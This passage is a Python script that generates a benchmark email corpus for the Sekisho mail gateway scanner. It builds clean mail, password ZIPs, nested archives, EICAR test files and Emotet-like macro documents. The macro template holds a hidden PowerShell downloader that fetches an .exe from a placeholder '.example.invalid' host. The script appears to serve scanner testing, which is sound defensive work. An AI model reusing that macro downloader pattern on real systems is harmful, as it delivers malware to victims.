#!/usr/bin/env python3
"""Writes Sekisho's benchmark corpus: a gateway's day in miniature.

Usage:
    gen_corpus.py OUTDIR [--seed N] [--messages N] [--quick] [--flat FLATDIR]

OUTDIR gets NNNNN-<kind>.eml files and manifest.json (per file: file, kind,
bytes, expect; totals per kind). With --flat, FLATDIR gets every leaf file
the messages carry (documents, images, text files, macro documents, the EICAR
files, the large blobs; not the archives), already extracted, for comparing
`yara -p N` with `sekisho scan --jobs N` on the same bytes.

The mix (bench/README.md, "Corpus"): 70 % clean mail, 10 % password ZIPs with
the password in the body, 5 % Emotet-shaped mail (password ZIP -> macro
document), 5 % EICAR in nested archives, 8 % nested archives of clean files,
2 % large attachments (5-20 MiB; 1-2 MiB with --quick). Counts are exact
(largest remainder), the order is shuffled.

Deterministic: one random.Random(seed) drives everything, dates and archive
timestamps are fixed, and the password ZIPs are written here (traditional
PKWARE encryption, as Info-ZIP `zip -P` writes it) because Info-ZIP seeds
its 12-byte encryption header from time() ^ getpid(). The same seed and
options give the same bytes on every run and machine (given the same zlib).

Standard library only; the macro documents come from tests/fixtures
(mkole.py: OLE2 with a VBA project; mkbiff.py: BIFF8 with an XLM sheet).
"""
import argparse
import base64
import gzip
import hashlib
import io
import json
import math
import os
import quopri
import random
import struct
import sys
import tarfile
import time
import urllib.parse
import zipfile
import zlib
from email.header import Header

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "tests", "fixtures"))
import mkbiff  # noqa: E402
import mkole  # noqa: E402

KiB, MiB = 1024, 1024 * 1024
MIX = [  # kind, share, expected verdict
    ("clean", 0.70, "pass"),
    ("pwzip", 0.10, "pass"),
    ("emotet", 0.05, "sandbox"),
    ("eicar", 0.05, "block"),
    ("nested", 0.08, "pass"),
    ("large", 0.02, "pass"),
]
EXPECT = {k: e for k, _, e in MIX}
# Fixed clock: the day is 2024-01-15 (JST); archive members carry 2024-01-12.
DAY = 1705244400  # 2024-01-15 00:00:00 +0900
ZIP_DT = (2024, 1, 12, 9, 30, 0)
TAR_MTIME = 1705019400  # 2024-01-12 09:30:00 +0900
EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode()

EN_WORDS = ("the quarterly report budget meeting schedule customer order invoice shipment "
            "delivery contract review draft update please find attached details below "
            "project team deadline next week regards thanks agenda minutes summary sales "
            "forecast revision approval request status plan office server migration "
            "training document figures total amount payment due account reference").split()
JA_SENTENCES = [
    "いつも大変お世話になっております。", "株式会社サンプルの佐藤です。",
    "先日はお打ち合わせのお時間をいただき、ありがとうございました。",
    "ご依頼いただいた見積書を添付いたします。", "内容をご確認のほど、よろしくお願いいたします。",
    "来週の会議の議事録を共有いたします。", "ご不明な点がございましたら、お気軽にお問い合わせください。",
    "請求書を送付いたしますので、ご査収ください。", "資料の修正版をお送りします。",
    "納期について、営業部と調整中です。", "本日の議題は次の三点です。",
    "予算案の件、承知いたしました。", "担当者が不在のため、代わりにご連絡いたしました。",
    "引き続きよろしくお願い申し上げます。", "出荷予定日は来月十日となります。",
]
JA_SUBJECTS = ["見積書送付の件", "会議議事録のご共有", "請求書のご送付", "資料修正版について",
               "納品書の件", "打ち合わせ日程のご相談", "ご注文内容のご確認"]
EN_SUBJECTS = ["Quarterly report", "Meeting minutes", "Invoice for January", "Updated draft",
               "Order confirmation", "Schedule for next week", "Project status"]
JA_NAMES = ["見積書", "請求書", "議事録", "資料", "納品書", "発注書"]
EN_NAMES = ["report", "invoice", "minutes", "draft", "order", "summary", "budget"]
PEOPLE = [("Sato Taro", "sato@example.co.jp"), ("Suzuki Hanako", "suzuki@example.jp"),
          ("Tanaka Ichiro", "tanaka@example.ne.jp"), ("Alice Smith", "alice@example.com"),
          ("Bob Jones", "bob@example.org"), ("Yamada Jiro", "yamada@example.co.jp")]


# --- text -------------------------------------------------------------------

def en_text(rng, n):
    """About n characters of English prose."""
    out, size = [], 0
    while size < n:
        words = [rng.choice(EN_WORDS) for _ in range(rng.randint(6, 14))]
        s = " ".join(words).capitalize() + "."
        out.append(s)
        size += len(s) + 1
    return " ".join(out)


def ja_text(rng, n):
    out, size = [], 0
    while size < n:
        s = rng.choice(JA_SENTENCES)
        out.append(s)
        size += len(s)
    return "".join(out)


def prose(rng, lang, n):
    return ja_text(rng, n) if lang == "ja" else en_text(rng, n)


def wrap(text, lang, width=70):
    """Lines for a mail body (Japanese: 35 characters a line)."""
    if lang == "ja":
        return "\n".join(text[i:i + 35] for i in range(0, len(text), 35))
    lines, line = [], ""
    for w in text.split(" "):
        if line and len(line) + 1 + len(w) > width:
            lines.append(line)
            line = w
        else:
            line = (line + " " + w) if line else w
    lines.append(line)
    return "\n".join(lines)


def password(rng):
    alphabet = "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnpqrstuvwxyz23456789"
    return "".join(rng.choice(alphabet) for _ in range(rng.randint(8, 12)))


def lognormal_size(rng, lo, hi):
    return int(math.exp(rng.uniform(math.log(lo), math.log(hi))))


# --- leaf documents -----------------------------------------------------------

def pdf(text_lines, binary=None):
    """A minimal valid PDF: one page showing text_lines (Helvetica), and with
    `binary`, an image XObject holding those bytes (DCTDecode-labelled)."""
    content = ["BT /F1 10 Tf 50 800 Td 12 TL"]
    for line in text_lines:
        esc = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        content.append("(%s) '" % esc)
    content.append("ET")
    if binary is not None:
        content.append("q 200 0 0 150 50 50 cm /Im1 Do Q")
    stream = "\n".join(content).encode("latin-1", "replace")
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >>"
            + (b" /XObject << /Im1 6 0 R >>" if binary is not None else b"") + b" >> >>",
            b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    if binary is not None:
        objs.append(b"<< /Type /XObject /Subtype /Image /Width 800 /Height 600 "
                    b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode "
                    b"/Length %d >>\nstream\n" % len(binary) + binary + b"\nendstream")
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objs):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % (i + 1) + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return bytes(out)


def pdf_sized(rng, target):
    lines, size = [], 400
    while size < target:
        lines.append(en_text(rng, 60)[:90])
        size += len(lines[-1]) + 5
    return pdf(lines)


def png(rng, target):
    """A valid RGB PNG of seeded noise, about `target` bytes."""
    side = max(8, int(math.sqrt(target / 3)))
    raw = bytearray()
    row = side * 3
    noise = rng.randbytes(row * side)
    for y in range(side):
        raw += b"\0" + noise[y * row:(y + 1) * row]

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(bytes(raw), 6)) + chunk(b"IEND", b""))


def jpeg(rng, target):
    """A valid baseline JPEG (one grey 8x8 block: DC and AC tables of one code
    each, scan bits 00 padded with 1s), grown to about `target` bytes by
    APP1 segments of seeded bytes, as a camera's EXIF and thumbnails do."""
    seg = lambda m, body: b"\xff" + bytes([m]) + struct.pack(">H", len(body) + 2) + body
    out = b"\xff\xd8" + seg(0xE0, b"JFIF\0\x01\x01\x00\x00\x01\x00\x01\x00\x00")
    left = target - 200
    while left > 0:
        n = min(left, 65000)
        out += seg(0xE1, b"Exif\0\0" + rng.randbytes(n))
        left -= n + 10
    out += seg(0xDB, b"\x00" + bytes([1] * 64))
    out += seg(0xC0, b"\x08\x00\x08\x00\x08\x01\x01\x11\x00")
    out += seg(0xC4, b"\x00" + b"\x01" + bytes(15) + b"\x00")   # DC table 0: symbol 0
    out += seg(0xC4, b"\x10" + b"\x01" + bytes(15) + b"\x00")   # AC table 0: EOB
    out += seg(0xDA, b"\x01\x01\x00\x00\x3f\x00") + b"\x3f" + b"\xff\xd9"
    return out


def _zipinfo(name):
    zi = zipfile.ZipInfo(name, ZIP_DT)
    zi.compress_type = zipfile.ZIP_DEFLATED
    zi.external_attr = 0o100644 << 16
    zi.create_system = 3
    return zi


def plain_zip(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in members:
            z.writestr(_zipinfo(name), data)
    return buf.getvalue()


CT_HEAD = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
           '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
           '<Default Extension="xml" ContentType="application/xml"/>')
RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="%s"/></Relationships>')


def xml_escape(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def docx(rng, lang, target):
    paras = "".join("<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % xml_escape(prose(rng, lang, 200))
                    for _ in range(max(1, target // 200)))
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
           '<w:body>%s</w:body></w:document>' % paras)
    ct = CT_HEAD + ('<Override PartName="/word/document.xml" ContentType="application/'
                    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
    return plain_zip([("[Content_Types].xml", ct), ("_rels/.rels", RELS % "word/document.xml"),
                      ("word/document.xml", doc)])


def xlsx(rng, lang, target):
    rows = []
    for r in range(1, max(2, target // 60)):
        rows.append('<row r="%d"><c r="A%d" t="inlineStr"><is><t>%s</t></is></c>'
                    '<c r="B%d"><v>%d</v></c><c r="C%d"><v>%d.%02d</v></c></row>'
                    % (r, r, xml_escape(prose(rng, lang, 12)), r, rng.randint(1, 999),
                       r, rng.randint(0, 99999), rng.randint(0, 99)))
    sheet = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
             '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             '<sheetData>%s</sheetData></worksheet>' % "".join(rows))
    wb = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
          '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
    wb_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
               '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
               '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
               'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
    ct = CT_HEAD + ('<Override PartName="/xl/workbook.xml" ContentType="application/'
                    'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
                    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
                    'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
    return plain_zip([("[Content_Types].xml", ct), ("_rels/.rels", RELS % "xl/workbook.xml"),
                      ("xl/workbook.xml", wb), ("xl/_rels/workbook.xml.rels", wb_rels),
                      ("xl/worksheets/sheet1.xml", sheet)])


def text_file(rng, lang, target):
    if rng.random() < 0.5:
        lines = ["date,item,quantity,amount"]
        size = 0
        while size < target:
            line = "2024-01-%02d,%s,%d,%d" % (rng.randint(1, 31), rng.choice(EN_WORDS),
                                              rng.randint(1, 50), rng.randint(100, 99999))
            lines.append(line)
            size += len(line) + 1
        return "data.csv", ("\n".join(lines) + "\n").encode()
    return "notes.txt", (wrap(prose(rng, lang, target // (3 if lang == "ja" else 1)), lang) + "\n").encode()


# A leaf: (filename, MIME type, bytes)
DOC_KINDS = [("pdf", 0.30), ("docx", 0.20), ("xlsx", 0.15), ("png", 0.12), ("jpeg", 0.10), ("txt", 0.13)]


def pick(rng, weighted):
    r, acc = rng.random(), 0.0
    for item, w in weighted:
        acc += w
        if r < acc:
            return item
    return weighted[-1][0]


def clean_doc(rng, lang, target, images=True):
    kinds = DOC_KINDS if images else [k for k in DOC_KINDS if k[0] not in ("png", "jpeg")]
    kind = pick(rng, [(k, w) for k, w in kinds])
    base = rng.choice(JA_NAMES if lang == "ja" and rng.random() < 0.5 else EN_NAMES)
    base += "_%03d" % rng.randint(1, 999)
    if kind == "pdf":
        return base + ".pdf", "application/pdf", pdf_sized(rng, target)
    if kind == "docx":
        return (base + ".docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                docx(rng, lang, target * 3))
    if kind == "xlsx":
        return (base + ".xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                xlsx(rng, lang, target * 4))
    if kind == "png":
        return "image_%03d.png" % rng.randint(1, 999), "image/png", png(rng, target)
    if kind == "jpeg":
        return "IMG_%04d.jpg" % rng.randint(1, 9999), "image/jpeg", jpeg(rng, target)
    name, data = text_file(rng, lang, target)
    return base + "_" + name, "text/plain", data


def macro_doc(rng):
    """An Emotet-shaped macro document: a .doc with AutoOpen + Shell VBA or
    an .xls with an Excel 4.0 macro sheet and Auto_Open."""
    if rng.random() < 0.6:
        var = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(5, 9)))
        host = "%s.example.invalid" % "".join(rng.choice("abcdefghijklmnop") for _ in range(7))
        proc = rng.choice(["AutoOpen", "Document_Open"])
        src = ('Attribute VB_Name = "ThisDocument"\n'
               'Sub %s()\n'
               '    Dim %s As String\n'
               '    %s = "cmd /c po" & "wershell -w hidden -c ""(New-Object Net.WebClient)." & _\n'
               '        "DownloadFile(\'http://%s/%d.exe\', $env:TEMP + \'\\\\%d.exe\')"""\n'
               '    Shell %s, 0\n'
               'End Sub\n') % (proc, var, var, host, rng.randint(100, 999), rng.randint(100, 999), var)
        # a FibBase (wIdent 0xA5EC, nFib 0x00C1, lid ja-JP, fWhichTblStm
        # set, fEncrypted clear, nFibBack 0x00BF), then the text
        word = (struct.pack("<HHHHHHH", 0xA5EC, 0x00C1, 0, 0x0411, 0, 0x0200, 0x00BF).ljust(32, b"\0")
                + ja_text(rng, rng.randint(500, 8000)).encode("utf-16-le"))
        data = mkole.cfb({"WordDocument": word, "1Table": bytes(4096),
                          "Macros": mkole.vba_project([("ThisDocument", src)])})
        return "%s_%04d.doc" % (rng.choice(["Invoice", "Document", "Rechnung", "請求書"]), rng.randint(1, 9999)), data
    data = mkbiff.ole2("Workbook", mkbiff.workbook(with_macro=True))
    return "%s_%04d.xls" % (rng.choice(["Statement", "Payment", "見積書"]), rng.randint(1, 9999)), data


# --- archives ---------------------------------------------------------------

CRC_TABLE = []
for _i in range(256):
    _c = _i
    for _ in range(8):
        _c = (_c >> 1) ^ 0xEDB88320 if _c & 1 else _c >> 1
    CRC_TABLE.append(_c)


def zipcrypto(pw, header, data):
    """Traditional PKWARE encryption of header + data with password pw."""
    k0, k1, k2 = 0x12345678, 0x23456789, 0x34567890
    T = CRC_TABLE

    def update(k0, k1, k2, b):
        k0 = T[(k0 ^ b) & 0xFF] ^ (k0 >> 8)
        k1 = ((k1 + (k0 & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        k2 = T[(k2 ^ (k1 >> 24)) & 0xFF] ^ (k2 >> 8)
        return k0, k1, k2
    for b in pw:
        k0, k1, k2 = update(k0, k1, k2, b)
    out = bytearray(len(header) + len(data))
    i = 0
    for src in (header, data):
        for p in src:
            t = (k2 | 2) & 0xFFFF
            out[i] = p ^ (((t * (t ^ 1)) >> 8) & 0xFF)
            i += 1
            k0 = T[(k0 ^ p) & 0xFF] ^ (k0 >> 8)
            k1 = ((k1 + (k0 & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
            k2 = T[(k2 ^ (k1 >> 24)) & 0xFF] ^ (k2 >> 8)
    return bytes(out)


def password_zip(rng, pw, members):
    """A ZipCrypto + deflate archive laid out as Info-ZIP `zip -P` writes
    it (no data descriptor; the check byte is the CRC's high byte), with a
    seeded 12-byte encryption header."""
    y, mo, d, h, mi, s = ZIP_DT
    dtime, ddate = (h << 11) | (mi << 5) | (s // 2), ((y - 1980) << 9) | (mo << 5) | d
    out, central = bytearray(), bytearray()
    for name, data in members:
        raw = name.encode("utf-8")
        flags = 0x1 | (0x800 if not name.isascii() else 0)
        crc = zlib.crc32(data)
        co = zlib.compressobj(6, zlib.DEFLATED, -15)
        comp = co.compress(data) + co.flush()
        enc = zipcrypto(pw.encode(), rng.randbytes(11) + bytes([crc >> 24]), comp)
        fields = struct.pack("<HHHHHIII", 20, flags, 8, dtime, ddate, crc, len(enc), len(data))
        central += (struct.pack("<IH", 0x02014B50, (3 << 8) | 30) + fields
                    + struct.pack("<HHHHHII", len(raw), 0, 0, 0, 0, 0o100644 << 16, len(out)) + raw)
        out += struct.pack("<I", 0x04034B50) + fields + struct.pack("<HH", len(raw), 0) + raw + enc
    cd_at = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), cd_at, 0)
    return bytes(out)


def tar_gz(members):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size, ti.mtime, ti.mode = len(data), TAR_MTIME, 0o644
            ti.uid = ti.gid = 1000
            ti.uname = ti.gname = "user"
            t.addfile(ti, io.BytesIO(data))
    return gzip.compress(buf.getvalue(), 6, mtime=0)


# --- MIME -------------------------------------------------------------------

def b64(data):
    return base64.encodebytes(data).replace(b"\n", b"\r\n")


def enc_word(s):
    return s if s.isascii() else "=?UTF-8?B?%s?=" % base64.b64encode(s.encode()).decode()


def text_part(text, lang, rng, subtype="plain"):
    text = text.replace("\n", "\r\n") + "\r\n"
    if subtype == "html":
        body = quopri.encodestring(text.encode("utf-8")).replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
        return (b'Content-Type: text/html; charset="utf-8"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n'
                + body)
    if lang == "en":
        return b'Content-Type: text/plain; charset="us-ascii"\r\nContent-Transfer-Encoding: 7bit\r\n\r\n' + text.encode()
    if rng.random() < 0.6:
        return (b'Content-Type: text/plain; charset="ISO-2022-JP"\r\nContent-Transfer-Encoding: 7bit\r\n\r\n'
                + text.encode("iso2022_jp"))
    return b'Content-Type: text/plain; charset="utf-8"\r\nContent-Transfer-Encoding: base64\r\n\r\n' + b64(text.encode())


ATTACHED = None  # with --mix: every attachment written, as (name, bytes)


def attach_part(name, ctype, data):
    if ATTACHED is not None:
        ATTACHED.append((name, data))
    if name.isascii():
        disp = 'attachment; filename="%s"' % name
    else:
        disp = "attachment; filename*=utf-8''%s" % urllib.parse.quote(name)
    return ('Content-Type: %s; name="%s"\r\nContent-Transfer-Encoding: base64\r\n'
            'Content-Disposition: %s\r\n\r\n' % (ctype, enc_word(name), disp)).encode() + b64(data)


def multipart(subtype, boundary, parts):
    out = b'Content-Type: multipart/%s; boundary="%s"\r\n\r\n' % (subtype.encode(), boundary.encode())
    if subtype == "mixed":
        out += b"This is a multi-part message in MIME format.\r\n"
    for p in parts:
        out += b"\r\n--" + boundary.encode() + b"\r\n" + p
    return out + b"\r\n--" + boundary.encode() + b"--\r\n"


def message(n, rng, lang, subject, body, attachments, html=False, people=None):
    sender, rcpt = people or rng.sample(PEOPLE, 2)
    when = time.gmtime(DAY + 9 * 3600 + n * 37 % 86400)
    date = time.strftime("%a, %d %b %Y %H:%M:%S +0900", when)
    subj = Header(subject, "iso-2022-jp" if lang == "ja" else "us-ascii").encode()
    head = ("From: %s <%s>\r\nTo: %s <%s>\r\nSubject: %s\r\nDate: %s\r\n"
            "Message-ID: <bench.%05d@sekisho.test>\r\nMIME-Version: 1.0\r\n"
            % (sender[0], sender[1], rcpt[0], rcpt[1], subj, date, n)).encode()
    text = text_part(body, lang, rng)
    if html:
        paras = "".join("<p>%s</p>" % xml_escape(l) for l in body.split("\n\n"))
        page = ('<html><head><meta charset="utf-8"><title>%s</title></head><body>%s'
                '<p><a href="https://www.example.com/">example.com</a></p></body></html>'
                % (xml_escape(subject), paras))
        text = multipart("alternative", "=_alt_%05d" % n, [text, text_part(page, lang, rng, "html")])
    if not attachments:
        return head + text
    return head + multipart("mixed", "=_mix_%05d" % n, [text] + [attach_part(*a) for a in attachments])


def body_text(rng, lang, extra=""):
    greet = "" if lang == "ja" else "Hello,\n\n"
    main = wrap(prose(rng, lang, rng.randint(150, 1200)), lang)
    sig = ("\n\n--\n佐藤 太郎\n株式会社サンプル 営業部" if lang == "ja"
           else "\n\nBest regards,\nAlice Smith\nExample Corp.")
    return greet + main + ("\n\n" + extra if extra else "") + sig


def pw_line(lang, pw):
    if lang == "ja":
        return "添付ファイルは暗号化されています。\n\nパスワード：" + pw
    return "The attachment is encrypted.\n\nPassword: " + pw


# --- kinds ------------------------------------------------------------------

def gen_clean(n, rng, lang, quick):
    atts = []
    r = rng.random()
    count = 0 if r < 0.3 else 1 if r < 0.75 else rng.randint(2, 3)
    for _ in range(count):
        atts.append(clean_doc(rng, lang, lognormal_size(rng, 3 * KiB, 120 * KiB // max(1, count))))
    subj = rng.choice(JA_SUBJECTS if lang == "ja" else EN_SUBJECTS)
    return message(n, rng, lang, subj, body_text(rng, lang), atts, html=rng.random() < 0.4), atts


def gen_pwzip(n, rng, lang, quick):
    pw = password(rng)
    docs = [clean_doc(rng, lang, lognormal_size(rng, 3 * KiB, 60 * KiB), images=rng.random() < 0.3)
            for _ in range(rng.randint(1, 2))]
    name = rng.choice(JA_NAMES if lang == "ja" else EN_NAMES) + "_%04d.zip" % rng.randint(1, 9999)
    z = password_zip(rng, pw, [(d[0], d[2]) for d in docs])
    subj = rng.choice(JA_SUBJECTS if lang == "ja" else EN_SUBJECTS)
    return message(n, rng, lang, subj, body_text(rng, lang, pw_line(lang, pw)),
                   [(name, "application/zip", z)]), docs


def gen_emotet(n, rng, lang, quick):
    pw = password(rng) if rng.random() < 0.5 else str(rng.randint(100, 9999))
    doc = macro_doc(rng)
    z = password_zip(rng, pw, [(doc[0], doc[1])])
    name = rng.choice(["Invoice", "Document", "請求書", "Payment"]) + "_%04d.zip" % rng.randint(1, 9999)
    subj = "Re: " + rng.choice(JA_SUBJECTS if lang == "ja" else EN_SUBJECTS)
    lead = "ご確認ください。" if lang == "ja" else "Please see the attached file."
    return (message(n, rng, lang, subj, lead + "\n\n" + pw_line(lang, pw), [(name, "application/zip", z)]),
            [(doc[0], "application/octet-stream", doc[1])])


def gen_eicar(n, rng, lang, quick):
    leaf = (rng.choice(["eicar.com", "eicar_test.txt", "tool.com"]), "application/octet-stream", EICAR)
    extra = clean_doc(rng, lang, lognormal_size(rng, 3 * KiB, 40 * KiB), images=False)
    if rng.random() < 0.5:
        inner = plain_zip([(leaf[0], leaf[2]), (extra[0], extra[2])])
        outer = plain_zip([("inner.zip", inner)])
        att = ("archive_%03d.zip" % rng.randint(1, 999), "application/zip", outer)
    else:
        inner = plain_zip([(leaf[0], leaf[2])])
        outer = tar_gz([("files/" + extra[0], extra[2]), ("files/tools.zip", inner)])
        att = ("backup_%03d.tar.gz" % rng.randint(1, 999), "application/gzip", outer)
    subj = rng.choice(JA_SUBJECTS if lang == "ja" else EN_SUBJECTS)
    return message(n, rng, lang, subj, body_text(rng, lang), [att]), [leaf, extra]


def gen_nested(n, rng, lang, quick):
    docs = [clean_doc(rng, lang, lognormal_size(rng, 3 * KiB, 50 * KiB)) for _ in range(rng.randint(2, 4))]
    k = rng.randint(1, len(docs) - 1)
    innermost = plain_zip([(d[0], d[2]) for d in docs[:k]])
    middle = tar_gz([("docs/" + d[0], d[2]) for d in docs[k:]] + [("docs/part2.zip", innermost)])
    outer = plain_zip([("archive/bundle.tar.gz", middle)])
    att = ("bundle_%03d.zip" % rng.randint(1, 999), "application/zip", outer)
    subj = rng.choice(JA_SUBJECTS if lang == "ja" else EN_SUBJECTS)
    return message(n, rng, lang, subj, body_text(rng, lang), [att]), docs


def large_leaf(rng, quick):
    size = int(rng.uniform(1, 2) * MiB) if quick else int(rng.uniform(5, 20) * MiB)
    kind = rng.choice(["csv", "pdf-random", "pdf-text"])
    if kind == "csv":
        rows, total = ["timestamp,host,status,bytes,path"], 0
        ri, ch = rng.randint, rng.choice
        while total < size:
            line = "2024-01-14T%02d:%02d:%02d,web%02d,%d,%d,/%s/%s" % (
                ri(0, 23), ri(0, 59), ri(0, 59), ri(1, 20), ch((200, 200, 200, 304, 404)),
                ri(100, 999999), ch(EN_WORDS), ch(EN_WORDS))
            rows.append(line)
            total += len(line) + 1
        return ("access_log_%03d.csv" % ri(1, 999), "text/csv", ("\n".join(rows) + "\n").encode())
    if kind == "pdf-random":
        return ("scan_%03d.pdf" % rng.randint(1, 999), "application/pdf",
                pdf([en_text(rng, 60) for _ in range(20)], rng.randbytes(size)))
    return ("manual_%03d.pdf" % rng.randint(1, 999), "application/pdf", pdf_sized(rng, size))


def gen_large(n, rng, lang, quick):
    leaf = large_leaf(rng, quick)
    subj = rng.choice(JA_SUBJECTS if lang == "ja" else EN_SUBJECTS)
    return message(n, rng, lang, subj, body_text(rng, lang), [leaf]), [leaf]


# --- the mix (--mix): repeated attachments ---------------------------------

REPEAT_SHARE = 0.75  # of attachment bytes, --mix
LOGO_DOMAINS = ("example.co.jp", "example.jp", "example.com")  # their signatures carry a logo
CAMPAIGNS = 12


class Repeats:
    """The attachments a gateway sees again and again, each made once from
    its own seeded generator: a logo per company (in the signature of every
    mail from it), the documents of CAMPAIGNS campaigns (sent to many
    recipients; campaign i is chosen with weight 1/(i+1)), one PDF invoice
    template and one large document (a brochure). The share of
    repeated bytes is steered: an attachment slot takes a shared document
    while the repeated share of the attachment bytes written so far is under
    REPEAT_SHARE, else a new one (a first use counts as new)."""

    def __init__(self, seed, quick):
        self.seed, self.quick = seed, quick
        self.made = {}
        self.seen = set()
        self.total = self.repeated = 0

    def _item(self, key, make):
        if key not in self.made:
            self.made[key] = make(random.Random("%d/pool/%s" % (self.seed, key)))
        return self.made[key]

    def want(self):
        return self.repeated < REPEAT_SHARE * self.total or not self.total

    def logo(self, people):
        domain = people[0][1].split("@")[1]
        if domain not in LOGO_DOMAINS:
            return None
        _, _, data = self._item("logo/" + domain,
                                lambda r: ("", "", png(r, lognormal_size(r, 4 * KiB, 24 * KiB))))
        return "image001.png", "image/png", data

    def document(self, rng):
        if rng.random() < 0.3:
            return self._item("invoice", lambda r: ("invoice_template.pdf", "application/pdf",
                                                    pdf_sized(r, lognormal_size(r, 20 * KiB, 80 * KiB))))
        weights = [1 / (i + 1) for i in range(CAMPAIGNS)]
        i = rng.choices(range(CAMPAIGNS), weights)[0]
        return self._item("campaign/%d" % i, lambda r: clean_doc(
            r, "ja" if i % 2 else "en", lognormal_size(r, 3 * KiB, 120 * KiB)))

    def large(self):
        return self._item("large", lambda r: large_leaf(r, self.quick))

    def record(self, attached):
        """Counts one message's attachments; returns them for the manifest."""
        out = []
        for name, data in attached:
            digest = hashlib.sha256(data).hexdigest()
            repeat = digest in self.seen
            self.seen.add(digest)
            self.total += len(data)
            self.repeated += len(data) if repeat else 0
            out.append({"name": name, "bytes": len(data), "sha256": digest, "repeat": repeat})
        return out


def gen_mix_clean(n, rng, lang, quick, pool):
    """gen_clean with shared documents in some slots and the sender's logo."""
    people = rng.sample(PEOPLE, 2)
    r = rng.random()
    count = 0 if r < 0.3 else 1 if r < 0.75 else rng.randint(2, 3)
    atts = [pool.document(rng) if pool.want() else
            clean_doc(rng, lang, lognormal_size(rng, 3 * KiB, 120 * KiB // count)) for _ in range(count)]
    logo = pool.logo(people)
    if logo and rng.random() < 0.8:
        atts.append(logo)
    subj = rng.choice(JA_SUBJECTS if lang == "ja" else EN_SUBJECTS)
    return message(n, rng, lang, subj, body_text(rng, lang), atts, html=rng.random() < 0.4,
                   people=people), atts


def gen_mix_large(n, rng, lang, quick, pool):
    if not pool.want():
        return gen_large(n, rng, lang, quick)
    leaf = pool.large()
    subj = rng.choice(JA_SUBJECTS if lang == "ja" else EN_SUBJECTS)
    return message(n, rng, lang, subj, body_text(rng, lang), [leaf]), [leaf]


GEN = {"clean": gen_clean, "pwzip": gen_pwzip, "emotet": gen_emotet,
       "eicar": gen_eicar, "nested": gen_nested, "large": gen_large}


def counts(total):
    """Exact counts per kind by largest remainder."""
    raw = [(k, s * total) for k, s, _ in MIX]
    c = {k: int(v) for k, v in raw}
    rest = sorted(raw, key=lambda kv: (-(kv[1] - int(kv[1])), kv[0]))
    for k, _ in rest[:total - sum(c.values())]:
        c[k] += 1
    return c


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("outdir")
    ap.add_argument("--seed", type=int, default=1)
